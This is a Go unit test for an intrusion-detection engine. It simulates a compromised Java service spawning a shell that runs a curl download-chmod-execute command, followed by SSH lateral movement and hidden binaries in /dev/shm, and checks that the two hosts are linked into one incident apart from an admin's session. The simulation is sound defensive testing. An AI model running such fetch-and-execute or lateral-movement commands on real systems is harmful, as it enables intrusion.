package engine

import (
	"strings"
	"testing"
	"time"

	"baize/internal/engine/enginetest"
	"baize/internal/incident"
)

// TestAnIntrusionGoesOnOnAnotherHost: who was let in on one host logs in on a
// second from there, and does what raises an alert; an administrator who comes
// from the same host a little later, and is no intruder's, does as well. The two
// ends may be told in any order, and long before the second alert.
func TestAnIntrusionGoesOnOnAnotherHost(t *testing.T) {
	for _, acceptFirst := range []bool{false, true} {
		w, events := enginetest.Record()
		java := w.Host("web-1").Service("app.service", "/usr/bin/java", "-jar", "app.jar")
		sshd := w.Host("db-1").Service("ssh.service", "/usr/sbin/sshd", "-D")
		first := enginetest.First
		java.Accept(first.From)
		shell := java.Fork().Exec("/bin/sh", "-c", "curl "+first.URL+" -o "+first.File+"; chmod +x "+first.File+"; "+first.File)
		accept := func() { sshd.AcceptFrom("10.0.0.1", 50000, "10.0.0.2", 22) }
		if acceptFirst {
			accept()
		}
		shell.Spawn("/usr/bin/ssh", "10.0.0.2").Connect("10.0.0.2", 22)
		if !acceptFirst {
			accept()
		}
		session := sshd.Session("/root/.ssh/authorized_keys")
		w.Advance(2 * time.Hour)
		session.Install("/dev/shm/.k").Spawn("/dev/shm/.k")
		w.Advance(time.Hour)
		sshd.AcceptFrom("10.0.0.1", 50001, "10.0.0.2", 22)
		w.Host("web-1").Login().Spawn("/usr/bin/ssh", "10.0.0.2")
		sshd.Session("/root/.ssh/authorized_keys").Install("/dev/shm/.admin").Spawn("/dev/shm/.admin")
		w.Advance(time.Minute)
		w.Tick()
		open := runOpen(t, *events)
		var both *incident.Incident
		for i := range open {
			if len(open[i].Hosts) == 2 {
				both = &open[i]
			}
		}
		if both == nil || len(open) != 2 {
			for _, i := range open {
				t.Logf("%s: %+v, reasons %+v", i.Title, i.Hosts, i.Reasons)
			}
			t.Fatalf("accept first %v: %d incidents", acceptFirst, len(open))
		}
		found := false
		for _, r := range both.Reasons {
			found = found || r.Reason == incident.ReasonConnection && strings.HasPrefix(r.Entity, "10.0.0.1:50000 → 10.0.0.2:22 at ")
		}
		if !found {
			t.Errorf("reasons %+v", both.Reasons)
		}
	}
}
